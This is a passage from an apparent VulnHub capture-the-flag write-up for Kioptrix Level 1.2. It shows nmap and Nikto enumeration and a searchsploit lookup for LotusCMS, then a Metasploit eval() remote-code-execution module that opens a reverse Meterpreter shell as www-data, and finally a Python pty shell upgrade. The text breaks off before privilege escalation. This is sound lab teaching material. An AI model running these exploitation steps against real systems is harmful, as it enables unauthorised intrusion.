Kioptrix Level 1.2 (#3) Writeup - VulnHub

Kioptrix Level 1.2 continues the Kioptrix VulnHub series, and provides great experience with reusing credentials, attacking common web applications, and cracking hashed passwords.

We start by exploiting LotusCMS to get a shell as www-data. From there, we find MySQL credentials that we use to login to phpMyAdmin and dump hashed user passwords.

Finally, after cracking and logging in using these credentials, we exploit a sudo misconfiguration that allows us to privilege escalate using the ht text editor.


Some of the introdocumentation mentions that it’s useful to add the box to /etc/hosts, so let’s go ahead and do that:

We’ll open up the hosts file:

sudo vim /etc/hosts

And then simply add:      kio3

Let’s proceed as usual now.

NMAP Scans

sudo nmap -p- -Pn -sSV -A -oN Kioptrix1.2 kio3
Starting Nmap 7.80 ( ) at 2020-07-28 22:56 EDT
Nmap scan report for kio3 (
Host is up (0.00011s latency).Not shown: 65533 closed ports
22/tcp open  ssh     OpenSSH 4.7p1 Debian 8ubuntu1.2 (protocol 2.0)| ssh-hostkey:
|   1024 30:e3:f6:dc:2e:22:5d:17:ac:46:02:39:ad:71:cb:49 (DSA)
|_  2048 9a:82:e6:96:e4:7e:d6:a6:d7:45:44:cb:19:aa:ec:dd (RSA)
80/tcp open  http    Apache httpd 2.2.8 ((Ubuntu) PHP/5.2.4-2ubuntu5.6 with Suhosin-Patch)
| http-cookie-flags:
|   /:
|_      httponly flag not set
|_http-server-header: Apache/2.2.8 (Ubuntu) PHP/5.2.4-2ubuntu5.6 with Suhosin-Patch
|_http-title: Ligoat Security - Got Goat? Security ...
MAC Address: 08:00:27:AA:71:E0 (Oracle VirtualBox virtual NIC)
Device type: general purpose
Running: Linux 2.6.X
OS CPE: cpe:/o:linux:linux_kernel:2.6
OS details: Linux 2.6.9 - 2.6.33
Network Distance: 1 hop
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

So we’ve got port 22 and 80. Looks like this will be heavily web-app based. Cool.Let’s get going.

I’ll start by running Nikto on the host:

nikto -host kio3 >> nikto.txt

While this runs in the background, let’s take a look at the webpage using Firefox:

Viewing the webpage

I’ll click around the website and see what we can find, we can start by taking a look at the blog page.

Viewing the Blog

Not much here, but I did notice a call out to a user known as loneferret, let’s note this as it could be a valid username for later.

Anyways, let’s continue by looking at /gallery which is menitoned in a couple places.

Viewing the Blog

For the most part, this whole thing looks severely broken. Maybe looking at the source HTML will give us some clues:

Viewing the Blog source

Okay, one thing that immediately sticks out is the HTML comment containing:

<!-- <a href="gadmin">Admin</a>   -->

If you know HTML, you know that the href value will pull in another resource, whether from an external source or a locally hosted resource… is gadmin a resource on the web server?

Trying to access `gadmin`

Sure is! Cool. Let’s note that, and look at the remaining pieces of baseline enumeration. Last thing on my list is the login button on the orignal homepage, let’s take a look at what this redirects to:

Taking a look at the login page

Cool, so it’s a login form to some admin panel… Looks like it’s related to LotusCMS, let’s note that down.

At this point, Nikto has finished executing, producing the following resutls:

- Nikto v2.1.6
+ Target IP:
+ Target Hostname:    kio3
+ Target Port:        80
+ Start Time:         2020-07-28 22:58:59 (GMT-4)+ Server: Apache/2.2.8 (Ubuntu) PHP/5.2.4-2ubuntu5.6 with Suhosin-Patch
+ Cookie PHPSESSID created without the httponlyflag
+ Retrieved x-powered-by header: PHP/5.2.4-2ubuntu5.6
+ The anti-clickjacking X-Frame-Options header is not present.
+ The X-XSS-Protection header is not defined. This header can hint to the user agent to protect against some forms of XSS
+ The X-Content-Type-Options header is not set. This could allow the user agent to render the content of the site in a different fashion to the MIME type
+ No CGI Directories found (use '-C all' to force check all possible dirs)
+ Server may leak inodes via ETags, header found with file /favicon.ico, inode: 631780, size: 23126, mtime: Fri Jun  5 15:22:00 2009
+ Apache/2.2.8 appears to be outdated (current is at least Apache/2.4.37). Apache 2.2.34 is the EOL for the 2.x branch.
+ PHP/5.2.4-2ubuntu5.6 appears to be outdated (current is at least 7.2.12). PHP 5.6.33, 7.0.27, 7.1.13, 7.2.1 may also current release for each branch.
+ Web Server returns a valid response with junk HTTP methods, this may cause false positives.
+ OSVDB-877: HTTP TRACE method is active, suggesting the host is vulnerable to XST
+ OSVDB-12184: /?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000: PHP reveals potentially sensitive information via certain HTTP requests that contain specific QUERY strings.
+ OSVDB-12184: /?=PHPE9568F36-D428-11d2-A769-00AA001ACF42: PHP reveals potentially sensitive information via certain HTTP requests that contain specific QUERY strings.
+ OSVDB-12184: /?=PHPE9568F34-D428-11d2-A769-00AA001ACF42: PHP reveals potentially sensitive information via certain HTTP requests that contain specific QUERY strings.
+OSVDB-12184: /?=PHPE9568F35-D428-11d2-A769-00AA001ACF42: PHP reveals potentially sensitive information via certain HTTP requests that contain specific QUERY strings.
+ OSVDB-3092: /phpmyadmin/changelog.php: phpMyAdmin is for managing MySQL databases, and should be protected or limited to authorized hosts.
+ OSVDB-3268: /icons/: Directoryindexing found.
+ OSVDB-3233: /icons/README: Apache default file found.
+ /phpmyadmin/: phpMyAdmin directory found
+ OSVDB-3092: /phpmyadmin/Documentation.html: phpMyAdmin is for managing MySQL databases, and should be protected or limited to authorized hosts.
+ 7680 requests: 0 error(s) and 19 item(s) reported on remote host
+ End Time:           2020-07-28 22:59:13 (GMT-4) (14 seconds)
+ 1 host(s) tested

Let’s quickly take a look at those PHP file discosures:

/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000: PHP reveals potentially sensitive information via certain HTTP requests that contain specific QUERY strings.
/?=PHPE9568F36-D428-11d2-A769-00AA001ACF42: PHP reveals potentially sensitive information via certain HTTP requests that contain specific QUERY strings.
/?=PHPE9568F34-D428-11d2-A769-00AA001ACF42: PHP reveals potentially sensitive information via certain HTTP requests that contain specific QUERY strings.
/?=PHPE9568F35-D428-11d2-A769-00AA001ACF42: PHP reveals potentially sensitive information via certain HTTP requests that contain specific QUERY strings.

I was too lazy to take screenshots of each, but all you need to know is that each of these reveals some PHP pics and credits, but nothing crazy. We now know that PHP is running, but we could infer that anyway from the PHP/5.2.4-2ubuntu5.6 header.

Okay, next up is that /phpmyadmin/ finding, let’s take a look:


Another login page…

Also, if we browse /phpmyadmin/changelog.php we can see that the most recent changelog entry is: (2007-12-08)… Intersting.


Okay, so at this point we have a couple curious things to continue to check out:

  • The login page at index.php?system=Admin with the LotusCMS application.
  • The login page at /gallery/gadmin
  • The /phpmyadmin/ login page and PHP versionLet’s start from the top. I tried some common creds on the LotusCMS page, but no success… Let’s do some research to see if there are exploits tied to LotusCMS.

ein@~/VulnHub/Kioptrix1.2:$ searchsploit lotusCMS
--- ---
 Exploit Title                                                           |  Path
                                                                         | (/usr/share/exploitdb/)
--- ---
LotusCMS 3.0 - 'eval()' Remote Command Execution (Metasploit)            | exploits/php/remote/18565.rb
LotusCMS 3.0.3 - Multiple Vulnerabilities                                | exploits/php/webapps/16982.txt
--- ---
Shellcodes: No Result

Oh wow, maybe one of these works… Let’s take a look at the second item on the list:

cat /usr/share/exploitdb/exploits/php/webapps/16982.txt

I went ahead and followed the link to this disclosure. There’s quite a bit here, most of which requires authentication, but let’s focus on the last item:

3) Directory traversal vulnerability in LotusCMS
The vulnerability exists due to insufficient validation of input data in the "page" parameter in core/model/PageModel.php. A remote attacker can create aspecially crafted HTTP request containing directory traversal sequences with NULL byte and read arbitrary files on the target system.
Exploitation example:

Hmm! Let’s give it a shot.

Trying to get an LFI

No luck.. There’s also that first result which is a MetaSploit module. Let’s fire up msfconsole real quick and try it out.

msf5 > use exploit/multi/http/lcms_php_exec
msf5 exploit(multi/http/lcms_php_exec) > info

       Name: LotusCMS 3.0 eval() Remote Command Execution
     Module: exploit/multi/http/lcms_php_exec
   Platform: PHP
       Arch: php
 Privileged: No
    License: Metasploit Framework License (BSD)
       Rank: Excellent
  Disclosed: 2011-03-03

Provided by:dflah_ <>
  sherl0ck_ <>
  sinn3r <>

Available targets:
  Id  Name
  --  ----
  0   Automatic LotusCMS 3.0

Check supported:

Basic options:
  Name     Current Setting  Required  Description
  ----     ---  ---  ---
  Proxies                   no        A proxy chain of format type:host:port[,type:host:port][...]
  RHOSTS                    yes       The target host(s), range CIDR identifier, or hosts file withsyntax 'file:<path>'
  RPORT    80               yes       The target port (TCP)
  SSL      false            no        Negotiate SSL/TLS for outgoing connections
  URI      /lcms/           yes       URI
  VHOST                     no        HTTP server virtual host

Payload information:
  Space: 4000
  Avoid: 1 characters

  This module exploits a vulnerability found in Lotus CMS 3.0's
  Router() function. This is done by embedding PHP code in the 'page'
  parameter, which will be passed to a eval call, therefore allowing
  remote code execution. The module can either automatically pick up a
  'page' parameter from the default page, or manually specify one in
  the URI option. To use the automatic method, please supply the URI
  with just a directory path, for example: "/lcms/". To manually
  configure one, you may do: "/lcms/somepath/index.php?page=index"

  OSVDB (75095)

msf5 exploit(multi/http/lcms_php_exec) > set URI /index.php
URI => /index.php
msf5 exploit(multi/http/lcms_php_exec) > set RHOSTS
msf5 exploit(multi/http/lcms_php_exec) > run

[*] Started reverse TCP handler on
[*] Using found page param: /index.php?page=index
[*] Sending exploit ...[*] Sending stage (38288 bytes) to
[*] Meterpreter session 1 opened ( -> at 2020-07-28 23:31:50 -0400

meterpreter > getuid
Server username: www-data (33)
meterpreter >

We got a shell… idk though… I hate using MetaSploit sometimes (not always). Let’s see if we can be elitist and find a manual exploit for this vuln, after all it’s from 2011. There’s bound to be one.


Okay, 30 seconds later, and wefound this

Cool, let’s try running it:

ein@~/VulnHub/Kioptrix1.2:$ ./ /index.php

Anti-script kiddie

And we got a shell as www-data.

Privilege Escalation

There are the two other web login panels that we didn’t check out. These might be entry points, but let’s continue with our shell and see if there’s a path forward to root.

Let’s get started by upgrading our shell to a full tty using Python:

which python
python -c "import pty; pty.spawn('/bin/bash');"

Cool! We’ll go ahead and repeat the process from the last box and run LinEnum:

